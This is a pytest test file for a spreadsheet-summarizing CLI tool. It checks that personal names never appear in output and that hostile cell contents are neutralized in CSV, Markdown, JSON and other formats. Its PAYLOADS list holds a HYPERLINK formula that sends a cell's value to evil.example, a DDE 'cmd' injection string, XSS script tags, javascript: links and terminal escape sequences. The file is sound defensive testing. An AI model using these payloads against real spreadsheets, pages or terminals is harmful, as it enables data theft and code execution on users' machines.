import io
import json
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest
import xlsxwriter

from tests.test_cli import ROOT

NAME = "Bùi Thị Bí Mật"
SCALE = ("excellent", "good", "completed", "not_completed")
PARTS = ("Bí Mật", "bí mật", "Bui Thi", "Mật")
FORMATS = ("table", "json", "csv", "tsv", "markdown", "html", "xlsx", "docx")
COMMANDS = (
    *(("summarize", "-f", each) for each in FORMATS),
    *(("summarize", "--by", "unit", "--by", "period", "-f", each) for each in FORMATS),
    *(("check-targets", "-f", each) for each in FORMATS),
    *(("inspect", "-f", each) for each in ("table", "json", "markdown")),
)


def run(folder: Path, *arguments: str) -> str:
    """Return all that a run of the program says, on both streams and in the files that it writes."""
    output = folder / "out" / "result"
    output.parent.mkdir(exist_ok=True)
    ended = subprocess.run(
        [sys.executable, "-m", "cellstats", *arguments, "-o", str(output)],
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
    )
    assert ended.returncode in (0, 1, 3), ended.stderr
    written = output.read_bytes() if output.exists() else b""
    if zipfile.is_zipfile(io.BytesIO(written)):
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            written = b"\n".join(map(archive.read, archive.namelist()))
    output.unlink(missing_ok=True)
    return (ended.stdout + ended.stderr + written).decode("utf-8", "replace")


def roster(path: Path, rating: str = "Hoàn thành tốt nhiệm vụ") -> None:
    """Write a list with the name wherever the name of a person may stand."""
    book = xlsxwriter.Workbook(str(path))
    book.set_properties({"author": NAME, "manager": NAME, "comments": NAME, "company": NAME, "title": NAME})
    book.set_custom_property("who", NAME)
    sheet = book.add_worksheet("Đảng viên")
    sheet.set_header(f"&L{NAME}")
    sheet.write_row(0, 0, ["", "", f"Người lập: {NAME}"])
    sheet.write_row(1, 0, ["XẾP LOẠI ĐẢNG VIÊN NĂM 2021"])
    sheet.write_row(3, 0, ["STT", "Họ và tên", "Chi bộ", "Chức vụ", "Điểm", "Xếp loại", "Ghi chú"])
    rows = [
        [1, NAME, "Chi bộ 1", "Bí thư", 80, rating, ""],
        [2, f"{NAME} A", "Chi bộ 1", NAME, 95, "Không rõ", f"như {NAME}"],
        [3, f"{NAME} B", "Chi bộ 2", "", NAME, NAME, NAME],
        [4, NAME, "Chi bộ 2", "", "", "", ""],
        [NAME, f"{NAME} C", "", "", "", "HTTNV", ""],
        ["", NAME, "", "", "", "", ""],
        ["", "Tổng cộng", "", "", "", 77, NAME],
        ["", NAME, "", "", "", "x", ""],
    ]
    for at, cells in enumerate(rows, 4):
        sheet.write_row(at, 0, cells)
    sheet.write_row(14, 0, ["", "NGƯỜI LẬP BIỂU", "", "", "BÍ THƯ"])
    sheet.write_row(16, 0, ["", NAME, "", "", NAME])
    sheet.write_comment(4, 1, NAME, {"author": NAME})
    sheet.set_row(6, None, None, {"hidden": True})
    hidden = book.add_worksheet("Ẩn")
    hidden.write_row(0, 0, [NAME, NAME])
    hidden.hide()
    book.define_name("nguoi", "='Đảng viên'!$B$5")
    book.close()


@pytest.fixture
def lists(tmp_path: Path) -> Path:
    folder = tmp_path / "lists"
    folder.mkdir()
    roster(folder / "list.xlsx")
    roster(folder / "twice.xlsx", "Hoàn thành nhiệm vụ")
    (folder / "list.csv").write_text(
        f"STT,Họ và tên,Chi bộ,Xếp loại\n1,{NAME},Chi bộ 9,HTTNV\n2,{NAME},Chi bộ 9,{NAME}\n{NAME},a,b,c,d,e\n",
        encoding="utf-8",
    )
    (folder / "quote.csv").write_text(f'Họ và tên,Xếp loại\n"{NAME},HTTNV\n{NAME},HTTNV\n' * 9, encoding="utf-8")
    (folder / "broken.xlsx").write_bytes((folder / "list.xlsx").read_bytes()[:-300])
    (folder / "broken.json").write_text(f'{{"format": "cellstats.summary/1", "{NAME}": [}}', encoding="utf-8")
    (folder / "~$list.xlsx").write_text(NAME, encoding="utf-8")
    return folder


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_name_of_a_person_is_ever_shown(command: tuple[str, ...], lists: Path) -> None:
    """Wherever it stands in a list, in no format, in no finding and at no verbosity is it to be found again."""
    said = run(lists, command[0], str(lists), *command[1:], "-v")
    said += run(lists, command[0], str(lists / "list.xlsx"), *command[1:], "--lang", "vi", "-v")
    assert "list.xlsx" in said
    assert not any(part in unicodedata.normalize("NFC", said) for part in PARTS)


def test_a_name_where_a_heading_or_unit_should_be_is_the_users_own(lists: Path) -> None:
    """What is shown of a workbook are its sheets, headings and units: the test above would see a name among them."""
    book = xlsxwriter.Workbook(str(lists / "unit.xlsx"))
    sheet = book.add_worksheet("Chi bộ")
    for at, cells in enumerate([["CHI BỘ NĂM 2021"], ["Đơn vị", "Tổng số", "HTTNV"], [NAME, 4, 4]]):
        sheet.write_row(at, 0, cells)
    book.close()
    assert NAME in run(lists, "summarize", str(lists / "unit.xlsx"), "--by", "unit", "-f", "csv")


PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\uff1d1+1",
    "red \x1b[31m \x1b]0;title\x07 \x9b2J",
    "back\x08\x7f",
    "turned \u202e txt.exe \u2066 \u200f",
    "no\u200bwidth\u2060\ufeff\u00ad",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[a](javascript:alert(1)) ![b](http://evil.example/b.png) `c` <http://evil.example>",
    "http://evil.example www.evil.example a@evil.example",
    "one | two \\ three * four * five",
    "quote \" and ' and ; and , and\ttab",
)
"""What harms a terminal, a spreadsheet, a page or a mail where it is not shown as a text."""

_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


@pytest.fixture
def poisoned(tmp_path: Path) -> Path:
    """Write a saved summary in which each payload is a unit, a group, a place, a message and a source."""
    path = tmp_path / "poisoned.json"
    records, totals, findings, sources = [], [], [], []
    for at, payload in enumerate((None, *PAYLOADS)):
        key = {"population": "cells", "measure": "rating", "period": "2021", "unit": payload, "group": payload}
        count = len(PAYLOADS) if payload is None else 1
        totals.append({**key, "all": 4 * count, "eligible": 4 * count, "rated": 4 * count})
        records += [{**key, "level": level, "count": count} for level in SCALE]
        findings.append({"code": "x", "severity": "warning", "place": f"{payload}!A{at}", "message": str(payload)})
        sources.append({"path": str(payload), "sheet": payload, "range": payload, "layout": "counts"})
    content = {"format": "cellstats.summary/1", "totals": totals, "records": records}
    path.write_text(json.dumps({**content, "findings": findings, "sources": sources}), encoding="utf-8")
    return path


@pytest.mark.parametrize("command", [each for each in COMMANDS if each[0] != "inspect"], ids=" ".join)
def test_what_a_workbook_says_stays_text(command: tuple[str, ...], poisoned: Path) -> None:
    """No control sign, no turned direction and nothing without width leaves the program, in any format."""
    said = run(poisoned.parent, command[0], str(poisoned), *command[1:], "-v")
    assert "evil" in said
    allowed = said.replace("\t", "") if "tsv" in command else said
    assert not _UNSEEN.search(allowed)


def test_json_gives_back_the_same_texts(poisoned: Path) -> None:
    """Escapes of JSON are read back as what they stand for, and there is no number that is none."""
    result = json.loads(run(poisoned.parent, "summarize", str(poisoned), "--by", "unit", "-f", "json", "-q"))
    assert {each["unit"] for each in result["totals"]} == {None, *PAYLOADS}


@pytest.mark.parametrize(("form", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_no_cell_of_a_table_is_a_formula(form: str, delimiter: str, poisoned: Path) -> None:
    """A text that begins like one stands behind an apostrophe; numbers, negative ones too, are untouched."""
    import csv
    import io

    said = run(poisoned.parent, "summarize", str(poisoned), "--by", "unit", "-f", form, "-q")
    rows = list(csv.DictReader(io.StringIO(said), delimiter=delimiter))
    units = list(dict.fromkeys(row["unit"] for row in rows))
    assert len(units) == len(PAYLOADS) + 1
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for row in rows for cell in row.values()
    )
    assert "'-2+3" in units
    assert {row["count"] for row in rows} == {"1", str(len(PAYLOADS))}
    (poisoned.parent / "t.yaml").write_text(
        "version: 1\ntargets:\n  - {id: a, population: cells, at_or_above: good, at_least: 90%}\n"
    )
    said = run(
        poisoned.parent, "check-targets", str(poisoned), "-t", str(poisoned.parent / "t.yaml"), "-f", form, "-q"
    )
    assert [row["margin_points"] for row in csv.DictReader(io.StringIO(said), delimiter=delimiter)] == ["-40.0"]


def test_nothing_in_markdown_is_a_mark_or_a_link(poisoned: Path) -> None:
    """What would be a tag, a link, an image or a column is shown as it was typed."""
    said = run(poisoned.parent, "summarize", str(poisoned), "--by", "unit", "-f", "markdown", "-q")
    table = next(line for line in said.splitlines() if "script" in line)
    assert "\\<script>" in table
    assert "\\[a](" in said
    assert "!\\[b](" in said
    assert "http:\\//evil" in said
    assert "www\\.evil" in said
    assert "a\\@evil" in said
    rows = [line.replace("\\|", "") for line in said.splitlines() if "Chi bộ 1" in line or "four" in line]
    assert len({line.count("|") for line in rows if line.startswith("| ")}) == 1
